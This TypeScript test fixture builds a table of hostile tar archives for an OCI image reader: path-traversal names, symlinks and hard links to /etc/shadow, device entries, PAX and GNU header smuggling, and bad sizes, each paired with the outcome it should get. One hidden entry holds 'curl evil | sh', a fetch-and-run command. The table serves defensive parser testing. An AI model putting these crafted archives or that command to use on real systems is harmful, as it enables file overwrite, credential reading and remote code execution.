import type { BuiltImage } from '@pratique/oci';
import { goodLayer, image, plain } from './forge-image.js';
import type { HostileTable } from './hostile-table.js';
import { streamedLayer } from './streamed-layer.js';
import { endOfTar, entry, file, gnuLongName, header, padded, pax, tar } from './tar-forge.js';

const good = tar(file('main.bicep'));
const hidden = tar(file('run.sh', 'curl evil | sh\n'));
const gnu = 'ustar  \0';

const ofTar = (bytes: Buffer) => (): BuiltImage => image([plain(bytes)]);

/** What hides in a tar. */
export const archives: HostileTable = {
  'a tar behind the end of the tar': ['not-readable', ofTar(Buffer.concat([good, hidden]))],
  'an entry behind one zero block': [
    'not-readable',
    ofTar(Buffer.concat([file('main.bicep'), Buffer.alloc(512), hidden])),
  ],
  'a text behind the end of the tar': ['not-readable', ofTar(Buffer.concat([good, Buffer.from('more')]))],
  'a tar that breaks off in a file': ['not-readable', ofTar(good.subarray(0, 520))],
  'a tar that breaks off in a header': ['not-readable', ofTar(good.subarray(0, 300))],
  'a tar that breaks off in the padding': ['not-readable', ofTar(good.subarray(0, 1000))],
  'a file that is said to be larger than the tar': [
    'not-readable',
    ofTar(tar(header({ name: 'main.bicep', size: 10_000_000 }), padded('x'))),
  ],
  'a path that climbs': ['not-readable', ofTar(tar(file('../main.bicep')))],
  'an absolute path that climbs': ['not-readable', ofTar(tar(file('/a/../../main.bicep')))],
  'a file through a link': [
    'failed',
    ofTar(tar(entry({ name: 'a', type: '2', link: '/etc' }), file('a/main.bicep'))),
  ],
  'a link under an allowed name': [
    'failed',
    ofTar(tar(entry({ name: 'main.bicep', type: '2', link: '/etc/shadow' }))),
  ],
  'a hard link out of the image': [
    'failed',
    ofTar(tar(entry({ name: 'main.bicep', type: '1', link: '../../etc/shadow' }))),
  ],
  'a character device': ['failed', ofTar(tar(entry({ name: 'main.bicep', type: '3' })))],
  'a block device': ['failed', ofTar(tar(entry({ name: 'main.bicep', type: '4' })))],
  'a pipe': ['failed', ofTar(tar(entry({ name: 'main.bicep', type: '6' })))],
  'a whiteout of everything below': ['failed', ofTar(tar(file('.wh..wh..opq', ''), file('main.bicep')))],
  'a link with content that is a header': [
    'not-readable',
    ofTar(tar(entry({ name: 'main.bicep', type: '2', link: 'x' }, header({ name: 'run.sh' })))),
  ],
  'a folder with content': ['not-readable', ofTar(tar(entry({ name: 'main.bicep/', type: '5' }, hidden)))],
  'a file whose name ends as a folder does': ['not-readable', ofTar(tar(file('main.bicep/')))],
  'an unknown kind of entry': [
    'not-readable',
    ofTar(tar(file('main.bicep'), entry({ name: 'x', type: 'Z' }))),
  ],
  'a part of a multi-volume archive': [
    'not-readable',
    ofTar(tar(entry({ name: 'main.bicep', type: 'M', magic: gnu }, 'x'))),
  ],
  'a GNU sparse file': [
    'not-readable',
    ofTar(tar(entry({ name: 'main.bicep', type: 'S', magic: gnu }, 'x'))),
  ],
  'a PAX sparse file': [
    'not-readable',
    ofTar(
      tar(
        pax([
          ['GNU.sparse.name', 'run.sh'],
          ['GNU.sparse.major', '1'],
        ]),
        file('main.bicep'),
      ),
    ),
  ],
  'an old Solaris header': [
    'not-readable',
    ofTar(tar(entry({ name: 'main.bicep', type: 'X' }, 'x'), file('main.bicep'))),
  ],
  'a PAX path over an allowed name': ['failed', ofTar(tar(pax([['path', 'run.sh']]), file('main.bicep')))],
  'a PAX size that uncovers an entry': [
    'failed',
    ofTar(tar(pax([['size', '0']]), file('main.bicep', file('run.sh')))),
  ],
  'two PAX paths': [
    'not-readable',
    ofTar(
      tar(
        pax([
          ['path', 'run.sh'],
          ['path', 'a.bicep'],
        ]),
        file('main.bicep'),
      ),
    ),
  ],
  'two PAX headers': [
    'not-readable',
    ofTar(tar(pax([['path', 'run.sh']]), pax([['path', 'a.bicep']]), file('main.bicep'))),
  ],
  'a PAX record of a wrong length': [
    'not-readable',
    ofTar(tar(entry({ name: 'p', type: 'x' }, '30 path=run.sh\n'), file('main.bicep'))),
  ],
  'a PAX path with NUL': ['not-readable', ofTar(tar(pax([['path', 'a.bicep\0run.sh']]), file('main.bicep')))],
  'an empty PAX path': ['not-readable', ofTar(tar(pax([['path', '']]), file('main.bicep')))],
  'a global PAX path': ['not-readable', ofTar(tar(pax([['path', 'run.sh']], 'g'), file('main.bicep')))],
  'a PAX header of 2 MiB': [
    'limit-exceeded',
    ofTar(tar(pax([['comment', 'x'.repeat(2 ** 21)]]), file('main.bicep'))),
  ],
  'a PAX size that is no number': ['not-readable', ofTar(tar(pax([['size', '0x0']]), file('main.bicep')))],
  'a PAX header without an entry': [
    'not-readable',
    ofTar(tar(file('main.bicep'), pax([['path', 'run.sh']]))),
  ],
  'a PAX and a GNU name': [
    'not-readable',
    ofTar(tar(pax([['path', 'a.bicep']]), gnuLongName('run.sh'), file('main.bicep'))),
  ],
  'a GNU name over an allowed one': ['failed', ofTar(tar(gnuLongName('run.sh'), file('main.bicep')))],
  'two GNU names': [
    'not-readable',
    ofTar(tar(gnuLongName('run.sh'), gnuLongName('a.bicep'), file('main.bicep'))),
  ],
  'a GNU name within a GNU name': [
    'not-readable',
    ofTar(tar(gnuLongName('a.bicep\0run.sh'), file('main.bicep'))),
  ],
  'a GNU name that climbs': ['not-readable', ofTar(tar(gnuLongName('../../main.bicep'), file('main.bicep')))],
  'a GNU name of 5,000 characters': [
    'limit-exceeded',
    ofTar(tar(gnuLongName(`${'a/'.repeat(2500)}main.bicep`), file('main.bicep'))),
  ],
  'a negative size': [
    'not-readable',
    ofTar(tar(header({ name: 'main.bicep', size: Buffer.alloc(12, 0xff) }))),
  ],
  'a size of 2^70': [
    'not-readable',
    ofTar(tar(header({ name: 'main.bicep', size: Buffer.from('800000400000000000000000', 'hex') }))),
  ],
  'a size that is no number': [
    'not-readable',
    ofTar(tar(header({ name: 'main.bicep', size: Buffer.from('0x000000000\0') }))),
  ],
  'a wrong checksum': ['not-readable', ofTar(tar(header({ name: 'main.bicep', checksum: 1 })))],
  'an archive from before POSIX': ['not-readable', ofTar(tar(header({ name: 'main.bicep', magic: '' })))],
  'an ambiguous GNU header': ['not-readable', ofTar(tar(ambiguous()))],
  'a good layer before a bad one': ['failed', () => image([goodLayer, plain(hidden)])],
  '1,000,000 entries': ['limit-exceeded', () => manyEntries(1_000_000)],
};

function ambiguous(): Buffer {
  const bytes = header({ name: 'main.bicep', magic: gnu });
  bytes.write('some/prefix', 345);
  bytes.write('        ', 148);
  const sum = bytes.reduce((total, byte) => total + byte, 0);
  bytes.write(`${sum.toString(8).padStart(6, '0')}\0 `, 148);
  return bytes;
}

/** Entries of different names, so that they do not compress as a bomb does. */
async function manyEntries(count: number): Promise<BuiltImage> {
  const digits = 7;
  const template = header({ name: `${'0'.repeat(digits)}.bicep` });
  const baseSum = Number.parseInt(template.toString('latin1', 148, 154), 8);
  const entryOf = (number: number): Buffer => {
    const bytes = Buffer.from(template);
    const name = String(number).padStart(digits, '0');
    const sum = Array.from(name).reduce((total, digit) => total + Number(digit), baseSum);
    bytes.write(name, 0, 'latin1');
    bytes.write(sum.toString(8).padStart(6, '0'), 148, 'latin1');
    return bytes;
  };
  const batch = 1_000;
  return image([
    await streamedLayer('gzip', function* () {
      for (let at = 0; at < count; at += batch) {
        yield Buffer.concat(Array.from({ length: batch }, (_, index) => entryOf(at + index)));
      }
      yield endOfTar;
    }),
  ]);
}
